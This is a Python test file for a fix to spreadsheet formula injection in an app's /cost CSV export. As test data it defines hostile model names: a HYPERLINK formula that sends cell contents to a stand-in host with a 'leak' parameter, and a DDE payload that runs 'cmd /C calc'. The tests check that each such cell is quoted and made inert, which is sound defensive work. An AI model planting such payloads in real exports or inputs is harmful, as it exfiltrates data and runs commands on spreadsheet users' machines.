"""Formula injection through the /cost CSV.

Issue 12, finding 10: model names are chosen by users (any Replicate model, any OpenAI
model name) and went into the CSV download as they were, so a model called
`=HYPERLINK(...)` became a live formula when the report was opened in a spreadsheet.
Every cell that a spreadsheet would read as a formula now starts with a quote.
"""

from __future__ import annotations

import csv
import io
import sqlite3
import uuid
from decimal import Decimal

import httpx
import pytest

from memory.csv_cells import FORMULA_STARTS, neutralise
from memory.db import create_engine
from memory.ledger import Ledger
from memory.models import Thread
from tests.app_process import ADMIN_PASSWORD
from tests.chat_client import ChatSession, login_cookie, outputs
from tests.db_fixtures import *  # noqa: F403 (fixtures)
from tests.waiting import wait_until

HOSTILE_MODEL = '=HYPERLINK("http://127.0.0.2/?leak="&A1,"Click for details")'
HOSTILE_BACKEND = "@SUM(1+1)*cmd|' /C calc'!A0"
OTHER_HOSTILE = ["+1+1", "-2+3", "\tleading tab", "\r=carriage"]


def _inert(text: str) -> str:
    """What a hostile name becomes: quoted, and on one line."""
    return ("'" + text).replace("\r", " ")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


def test_cells_that_would_start_a_formula_are_quoted() -> None:
    assert neutralise(HOSTILE_MODEL) == "'" + HOSTILE_MODEL
    for text in OTHER_HOSTILE:
        assert neutralise(text) == _inert(text)
    assert neutralise("two\nlines") == "two lines"
    for safe in ("gpt-image-2", "black-forest-labs/flux-schnell", "0.040000", 3, 0, "a=b"):
        assert neutralise(safe) == safe


async def _spend(ledger: Ledger, user_id: str, thread_id: str, backend: str, model: str) -> None:
    reservation = await ledger.reserve(
        user_id=user_id,
        thread_id=thread_id,
        backend=backend,
        model=model,
        what="image",
        estimate_usd=Decimal("0.04"),
    )
    await ledger.settle(reservation.id, user_id=user_id, actual_usd=Decimal("0.04"), source="table")


async def test_the_ledger_csv_holds_no_formula(engine, users) -> None:
    account = await users.add("alice", "correct horse battery")
    thread_id = str(uuid.uuid4())
    async with engine.begin() as conn:
        await conn.execute(Thread.__table__.insert().values(id=thread_id, user_id=account.id))
    ledger = Ledger(engine)
    await _spend(ledger, account.id, thread_id, HOSTILE_BACKEND, HOSTILE_MODEL)
    for name in OTHER_HOSTILE:
        await _spend(ledger, account.id, thread_id, "replicate", name)

    rows = _cells(await ledger.csv(account.id))
    _assert_no_formula(rows)
    assert rows[0][:3] == ["day", "backend", "model"]
    models = {row[2] for row in rows[1:]}
    assert "'" + HOSTILE_MODEL in models
    assert {_inert(name) for name in OTHER_HOSTILE} <= models
    assert len(rows) == 1 + 1 + len(OTHER_HOSTILE)  # no row was split by a line break
    assert any(row[1] == "'" + HOSTILE_BACKEND for row in rows[1:])
    assert all(row[3] == "0.040000" for row in rows[1:])  # the numbers stay numbers


@pytest.mark.slow
async def test_the_cost_download_holds_no_formula(make_app) -> None:
    """A user's conversation spent on a model named like a formula; /cost's CSV, fetched
    the way the browser fetches it, shows the name as text."""
    app = make_app()
    chat = ChatSession(app.base_url, login_cookie(app.base_url, "admin", ADMIN_PASSWORD))
    await chat.connect()
    await chat.send("hello")
    with sqlite3.connect(app.data_dir / "atelier.db") as db:
        user_id = db.execute("SELECT id FROM users WHERE identifier = 'admin'").fetchone()[0]

    def thread_saved() -> bool:
        with sqlite3.connect(app.data_dir / "atelier.db") as db:
            query = "SELECT 1 FROM threads WHERE id = ?"
            return db.execute(query, (chat.thread_id,)).fetchone() is not None

    # The thread row is written in the background.
    await wait_until(thread_saved, 10, "the conversation's thread row")
    engine = create_engine(f"sqlite+aiosqlite:///{app.data_dir / 'atelier.db'}")
    try:
        await _spend(Ledger(engine), user_id, chat.thread_id, "replicate", HOSTILE_MODEL)
    finally:
        await engine.dispose()

    reply = outputs(await chat.send("/cost"))
    assert any("Cost report" in text for text in reply), reply
    element = next(e for e in chat.elements if e["type"] == "file")
    response = httpx.get(
        f"{app.base_url}/project/file/{element['chainlitKey']}",
        params={"session_id": chat.session_id},
        headers={"Cookie": chat.cookie},
    )
    assert response.status_code == 200
    rows = _cells(response.text)
    _assert_no_formula(rows)
    assert any(row[2] == "'" + HOSTILE_MODEL for row in rows[1:]), rows
    await chat.close()
